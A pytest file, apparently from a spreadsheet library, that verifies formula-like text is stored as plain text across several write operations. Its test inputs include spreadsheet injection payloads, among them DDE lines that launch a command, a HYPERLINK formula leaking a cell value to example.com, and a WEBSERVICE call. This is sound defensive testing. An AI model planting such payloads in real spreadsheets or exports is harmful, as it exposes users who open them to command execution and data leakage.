"""Text that looks like a formula stays text in every operation that writes, as a program that had no part in it reads."""

from __future__ import annotations

from collections.abc import Callable
from functools import cache

import pytest
from openpyxl.cell.cell import Cell
from openpyxl.utils.escape import unescape

from sheetsales.cells.address import CellRef
from sheetsales.cells.edits import AddSheet, AppendRows, Edit, ReplaceRows, SetCell
from tests.hostile.seed import TABLE, packed, plain, rich
from tests.ooxml.books import book, done, opened_by_openpyxl

TEXTS = (
    "=cmd|' /C calc'!A0",
    "=1+1",
    '=HYPERLINK("http://example.com/?"&A1,"x")',
    '=WEBSERVICE("http://example.com/")',
    "=DDE(1)",
    "@SUM(1+1)",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    "\uff1d1+1",
    "{=1+1}",
    "#N/A",
    "TRUE",
    "007",
    "1e5",
    "2024-01-02",
    "</t><f>1+1</f>",
    "]]><f>1</f>",
    "&#61;1+1",
)
SOURCES: dict[str, Callable[[], bytes]] = {
    "shared strings": lambda: packed(plain()),
    "XlsxWriter": lambda: packed(rich()),
    "no shared strings": book,
}
ROWS = tuple({"Customer": text} for text in TEXTS)


OPERATIONS: dict[str, Callable[[], tuple[Edit, ...]]] = {
    "set": lambda: tuple(SetCell(CellRef("Sheet1", 20 + at, 8), text) for at, text in enumerate(TEXTS)),
    "append": lambda: (AppendRows(TABLE, ROWS),),
    "replace": lambda: (ReplaceRows(TABLE, ROWS),),
    "add sheet": lambda: (AddSheet("Added", ("A",), tuple((text,) for text in TEXTS)),),
}


@cache
def _written(source: str, operation: str) -> dict[str, str]:
    """The type of every cell that holds text or a formula, by what it says."""
    opened = opened_by_openpyxl(done(SOURCES[source](), *OPERATIONS[operation]()))
    cells = [cell for sheet in opened for row in sheet.iter_rows() for cell in row if isinstance(cell, Cell)]
    return {unescape(cell.value): cell.data_type for cell in cells if isinstance(cell.value, str)}


CASES = [(s, o) for s in SOURCES for o in OPERATIONS if s != "no shared strings" or o in ("set", "add sheet")]


@pytest.mark.parametrize(("source", "operation"), CASES)
def test_stays_text(source: str, operation: str) -> None:
    found = _written(source, operation)
    for text in TEXTS:
        assert found.get(text) == "s", text
